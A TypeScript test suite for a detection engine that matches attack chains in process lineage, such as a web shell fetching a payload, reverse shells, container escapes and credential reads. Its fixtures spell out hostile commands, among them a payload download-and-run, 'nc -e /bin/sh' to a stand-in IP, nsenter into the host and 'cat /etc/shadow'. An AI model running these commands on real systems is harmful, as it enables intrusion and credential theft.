import { describe, expect, it } from 'vitest';
import { chainMatches, describeMatch } from './run-chains.js';
import { PROGRAM, SH, Story } from './story.js';

/**
 * Each bundled chain rule (rules/chains.yaml) against a story that tells its attack, and against
 * the near misses: steps out of order, outside the window, in unrelated lineage.
 */

const WEB = '3f9a1c0e2b7d';
const OTHER = '9e8d7c6b5a41';
const NGINX = PROGRAM('nginx', '/usr/sbin/nginx', [], WEB);

/** A host with a pod running nginx (pid 2001) and an admin's login shell (pid 1100). */
function base(): Story {
  return new Story()
    .container(WEB, 'web', 'docker.io/library/nginx:1.25')
    .container(OTHER, 'worker', 'docker.io/library/debian:12')
    .running(1, 0, PROGRAM('systemd', '/usr/lib/systemd/systemd'))
    .running(900, 1, PROGRAM('sshd', '/usr/sbin/sshd', ['-D']))
    .running(1100, 900, PROGRAM('bash', '/usr/bin/bash'))
    .running(2000, 1, PROGRAM('containerd-shim', '/usr/bin/containerd-shim-runc-v2'))
    .running(2001, 2000, NGINX)
    .running(2500, 2000, PROGRAM('sleep', '/bin/sleep', ['infinity'], OTHER))
    .running(1500, 1, PROGRAM('java', '/usr/bin/java', ['-jar', '/opt/app.jar']));
}

const only = (name: string) => async (story: Story) => (await chainMatches([story])).filter((m) => m.chain === name).map(describeMatch);

describe('chain: Web service shell fetches and runs a payload', () => {
  const run = only('Web service shell fetches and runs a payload');

  it('finds shell → download → chmod/run from /tmp, reporting the earliest completion', async () => {
    const story = base()
      .spawn(10, 3000, 2001, SH(['-c', 'curl -o /tmp/p http://198.51.100.9/p; chmod +x /tmp/p; /tmp/p'], WEB))
      .spawn(11, 3001, 3000, PROGRAM('curl', '/usr/bin/curl', ['-o', '/tmp/p', 'http://198.51.100.9/p'], WEB))
      .spawn(12, 3002, 3000, PROGRAM('chmod', '/bin/chmod', ['+x', '/tmp/p'], WEB))
      .spawn(13, 3003, 3000, PROGRAM('p', '/tmp/p', [], WEB));
    expect(await run(story)).toEqual(['Web service shell fetches and runs a payload: shell=sh,3000 fetch=curl,3001 run=chmod,3002']);
  });

  it('follows a shell that execs the payload in place (sh -c "…; exec /dev/shm/p")', async () => {
    const story = base()
      .spawn(10, 3000, 2001, SH(['-c', 'wget -O /dev/shm/p http://198.51.100.9/p; exec /dev/shm/p'], WEB))
      .spawn(11, 3001, 3000, PROGRAM('wget', '/usr/bin/wget', ['-O', '/dev/shm/p', 'http://198.51.100.9/p'], WEB))
      .execInPlace(12, 3000, 2001, PROGRAM('p', '/dev/shm/p', [], WEB));
    const [m] = await chainMatches([story]);
    expect(m && describeMatch(m)).toBe('Web service shell fetches and runs a payload: shell=sh,3000 fetch=wget,3001 run=p,3000');
    expect(m?.steps[2]?.path.map((p) => `${p.name},${p.pid}`)).toEqual(['sh,3000', 'p,3000']);
    expect(m?.steps[0]?.path.map((p) => `${p.name},${p.pid}`)).toEqual(['nginx,2001', 'sh,3000']);
  });

  it('finds nothing when the payload runs before the download', async () => {
    const story = base()
      .spawn(10, 3000, 2001, SH(['-c', 'x'], WEB))
      .spawn(11, 3003, 3000, PROGRAM('p', '/tmp/p', [], WEB))
      .spawn(12, 3001, 3000, PROGRAM('curl', '/usr/bin/curl', ['-o', '/tmp/p', 'http://198.51.100.9/p'], WEB));
    expect(await run(story)).toEqual([]);
  });

  it('finds nothing when the run comes after the 10 minute window', async () => {
    const story = base()
      .spawn(10, 3000, 2001, SH(['-c', 'x'], WEB))
      .spawn(11, 3001, 3000, PROGRAM('curl', '/usr/bin/curl', ['-o', '/tmp/p', 'http://198.51.100.9/p'], WEB))
      .spawn(10 + 601, 3003, 3000, PROGRAM('p', '/tmp/p', [], WEB));
    expect(await run(story)).toEqual([]);
  });

  it('finds nothing when the program in /tmp runs outside the shell’s lineage', async () => {
    const story = base()
      .spawn(10, 3000, 2001, SH(['-c', 'x'], WEB))
      .spawn(11, 3001, 3000, PROGRAM('curl', '/usr/bin/curl', ['-o', '/tmp/p', 'http://198.51.100.9/p'], WEB))
      .spawn(12, 3100, 1100, PROGRAM('p', '/tmp/p'));
    expect(await run(story)).toEqual([]);
  });

  it('is cancelled by a checksum check between download and run, but not by one elsewhere', async () => {
    const steps = (s: Story) =>
      s.spawn(10, 3000, 2001, SH(['-c', 'x'], WEB)).spawn(11, 3001, 3000, PROGRAM('curl', '/usr/bin/curl', ['-o', '/tmp/p', 'http://198.51.100.9/p'], WEB));
    const verified = steps(base())
      .spawn(12, 3002, 3000, PROGRAM('sha256sum', '/usr/bin/sha256sum', ['-c', '/tmp/p.sha256'], WEB))
      .spawn(13, 3003, 3000, PROGRAM('p', '/tmp/p', [], WEB));
    expect(await run(verified)).toEqual([]);
    const checkedElsewhere = steps(base())
      .spawn(12, 3102, 1100, PROGRAM('sha256sum', '/usr/bin/sha256sum', ['-c', '/tmp/p.sha256']))
      .spawn(13, 3003, 3000, PROGRAM('p', '/tmp/p', [], WEB));
    expect(await run(checkedElsewhere)).toHaveLength(1);
  });

  it('still matches through a second, unverified download after a verified one', async () => {
    const story = base()
      .spawn(10, 3000, 2001, SH(['-c', 'x'], WEB))
      .spawn(11, 3001, 3000, PROGRAM('curl', '/usr/bin/curl', ['-o', '/tmp/p', 'http://198.51.100.9/p'], WEB))
      .spawn(12, 3002, 3000, PROGRAM('sha256sum', '/usr/bin/sha256sum', ['-c', '/tmp/p.sha256'], WEB))
      .spawn(13, 3003, 3000, PROGRAM('wget', '/usr/bin/wget', ['-O', '/tmp/q', 'http://198.51.100.9/q'], WEB))
      .spawn(14, 3004, 3000, PROGRAM('q', '/tmp/q', [], WEB));
    expect(await run(story)).toEqual(['Web service shell fetches and runs a payload: shell=sh,3000 fetch=wget,3003 run=q,3004']);
  });
});

describe('chain: Reverse shell from an application runtime', () => {
  const run = only('Reverse shell from an application runtime');

  it('finds java → sh -c … → bash -i with its lineage path', async () => {
    const story = base()
      .spawn(5, 3100, 1500, PROGRAM('bash', '/bin/bash', ['-c', '{echo,YmFzaA==}|{base64,-d}|{bash,-i}']))
      .spawn(6, 3101, 3100, PROGRAM('base64', '/usr/bin/base64', ['-d']))
      .spawn(6.5, 3102, 3100, PROGRAM('bash', '/bin/bash', ['-i']));
    const [m, ...rest] = (await chainMatches([story])).filter((x) => x.chain === 'Reverse shell from an application runtime');
    expect(rest).toEqual([]);
    expect(m && describeMatch(m)).toBe('Reverse shell from an application runtime: runtime_shell=bash,3100 remote_shell=bash,3102');
    expect(m?.steps[1]?.path.map((p) => `${p.name},${p.pid}`)).toEqual(['bash,3100', 'bash,3102']);
    expect(m?.outputFields['runtime_shell.proc.pname']).toBe('java');
  });

  it('finds nc started under the runtime’s shell', async () => {
    const story = base()
      .spawn(5, 3100, 1500, SH(['-c', 'nc -e /bin/sh 198.51.100.9 443']))
      .execInPlace(5.5, 3100, 1500, PROGRAM('nc', '/usr/bin/nc', ['-e', '/bin/sh', '198.51.100.9', '443']));
    expect(await run(story)).toEqual(['Reverse shell from an application runtime: runtime_shell=sh,3100 remote_shell=nc,3100']);
  });

  it('finds nothing for an admin’s interactive shell that no runtime started', async () => {
    const story = base()
      .spawn(5, 3100, 1500, SH(['-c', 'ls /opt/app']))
      .spawn(6, 3200, 1100, PROGRAM('bash', '/bin/bash', ['-i']));
    expect(await run(story)).toEqual([]);
  });

  it('finds nothing when the interactive shell comes after the 5 minute window', async () => {
    const story = base()
      .spawn(5, 3100, 1500, SH(['-c', 'sleep 400; bash -i']))
      .spawn(5 + 301, 3102, 3100, PROGRAM('bash', '/bin/bash', ['-i']));
    expect(await run(story)).toEqual([]);
  });

  it('finds nothing when the interactive shell was started before the runtime’s shell', async () => {
    // 3100 forks 3102 while still java; 3102 runs bash -i, then 3100 becomes the shell.
    const story = base()
      .spawn(5, 3100, 1500, PROGRAM('java', '/usr/bin/java', ['-jar', '/opt/app.jar']))
      .spawn(6, 3102, 3100, PROGRAM('bash', '/bin/bash', ['-i']))
      .execInPlace(7, 3100, 1500, SH(['-c', 'true']));
    expect(await run(story)).toEqual([]);
  });
});

describe('chain: Container shell attempts an escape', () => {
  const run = only('Container shell attempts an escape');

  it('finds a container shell running nsenter into the host', async () => {
    const story = base()
      .spawn(5, 3200, 2000, PROGRAM('bash', '/bin/bash', [], WEB))
      .spawn(6, 3201, 3200, PROGRAM('nsenter', '/usr/bin/nsenter', ['-t', '1', '-m', '-u', '-n', '-i', '-p', 'bash'], WEB));
    expect(await run(story)).toEqual(['Container shell attempts an escape: shell=bash,3200 escape=nsenter,3201']);
  });

  it('finds nothing for nsenter on the host, a bare `mount`, or nsenter outside the shell’s lineage', async () => {
    const story = base()
      .spawn(5, 3300, 1100, PROGRAM('nsenter', '/usr/bin/nsenter', ['-t', '1', '-m']))
      .spawn(6, 3200, 2000, PROGRAM('bash', '/bin/bash', [], WEB))
      .spawn(7, 3201, 3200, PROGRAM('mount', '/bin/mount', [], WEB))
      .spawn(8, 3202, 2000, PROGRAM('nsenter', '/usr/bin/nsenter', ['-t', '1', '-m'], OTHER));
    expect(await run(story)).toEqual([]);
  });

  it('finds nothing when nsenter ran before the shell did', async () => {
    // 3200 starts as the container's init, forks nsenter, and only then becomes a shell.
    const story = base()
      .spawn(5, 3200, 2000, PROGRAM('tini', '/sbin/tini', [], WEB))
      .spawn(6, 3201, 3200, PROGRAM('nsenter', '/usr/bin/nsenter', ['-t', '1', '-m'], WEB))
      .execInPlace(7, 3200, 2000, PROGRAM('bash', '/bin/bash', [], WEB));
    expect(await run(story)).toEqual([]);
  });

  it('finds nothing when the escape comes after the 30 minute window', async () => {
    const story = base()
      .spawn(5, 3200, 2000, PROGRAM('bash', '/bin/bash', [], WEB))
      .spawn(5 + 1801, 3201, 3200, PROGRAM('chroot', '/usr/sbin/chroot', ['/host'], WEB));
    expect(await run(story)).toEqual([]);
  });
});

describe('chain: Tooling installed in a container, then network tools', () => {
  const run = only('Tooling installed in a container, then network tools');
  const install = PROGRAM('apt-get', '/usr/bin/apt-get', ['install', '-y', 'nmap'], OTHER);
  const scan = PROGRAM('nmap', '/usr/bin/nmap', ['-sS', '10.0.0.0/24'], OTHER);

  it('finds apt-get then nmap in the same container, in unrelated processes', async () => {
    const story = base().spawn(5, 3400, 2000, SH([], OTHER)).spawn(6, 3401, 3400, install).spawn(60, 3402, 2000, scan);
    expect(await run(story)).toEqual(['Tooling installed in a container, then network tools: install=apt-get,3401 network_tool=nmap,3402']);
  });

  it('finds nothing when the network tool ran first', async () => {
    const story = base().spawn(5, 3402, 2000, scan).spawn(60, 3401, 2000, install);
    expect(await run(story)).toEqual([]);
  });

  it('finds nothing across containers, on the host, or after the hour', async () => {
    const story = base()
      .spawn(5, 3401, 2000, install)
      .spawn(6, 3402, 2001, PROGRAM('nmap', '/usr/bin/nmap', ['-sS', '10.0.0.0/24'], WEB))
      .spawn(7, 3500, 1100, PROGRAM('apt-get', '/usr/bin/apt-get', ['install', 'nmap']))
      .spawn(8, 3501, 1100, PROGRAM('nmap', '/usr/bin/nmap', ['localhost']))
      .spawn(5 + 3601, 3403, 2000, scan);
    expect(await run(story)).toEqual([]);
  });
});

describe('chain: Credential files read by a service’s shell', () => {
  const run = only("Credential files read by a service's shell");

  it('finds cat /etc/shadow under a web server’s shell', async () => {
    const story = base()
      .spawn(10, 3000, 2001, SH(['-c', 'cat /etc/shadow'], WEB))
      .execInPlace(10.5, 3000, 2001, PROGRAM('cat', '/bin/cat', ['/etc/shadow'], WEB));
    expect(await run(story)).toEqual(["Credential files read by a service's shell: shell=sh,3000 read=cat,3000"]);
  });

  it('finds nothing for an admin reading /etc/shadow from a login shell', async () => {
    const story = base().spawn(10, 3600, 1100, PROGRAM('cat', '/bin/cat', ['/etc/shadow']));
    expect(await run(story)).toEqual([]);
  });

  it('finds nothing when the read happened before the service’s shell existed', async () => {
    const story = base()
      .spawn(5, 3000, 2001, NGINX)
      .spawn(6, 3001, 3000, PROGRAM('cat', '/bin/cat', ['/root/.ssh/id_rsa'], WEB))
      .execInPlace(7, 3000, 2001, SH(['-c', 'id'], WEB));
    expect(await run(story)).toEqual([]);
  });

  it('finds nothing after the 30 minute window', async () => {
    const story = base()
      .spawn(10, 3000, 2001, SH(['-c', 'sleep 2000; cat /etc/shadow'], WEB))
      .spawn(10 + 1801, 3001, 3000, PROGRAM('cat', '/bin/cat', ['/etc/shadow'], WEB));
    expect(await run(story)).toEqual([]);
  });
});

describe('chain: Reverse shell from an application runtime, interactive flag', () => {
  it('does not take a -i further along the command line (ls -i, grep -i) for an interactive shell', async () => {
    const story = base()
      .spawn(5, 3100, 1500, SH(['-c', 'ls -i /opt']))
      .spawn(6, 3101, 3100, SH(['-c', 'ls -i /opt']))
      .spawn(7, 3102, 3100, PROGRAM('bash', '/bin/bash', ['-c', 'grep -i x /opt/app.log']));
    expect((await chainMatches([story])).map(describeMatch)).toEqual([]);
  });
});
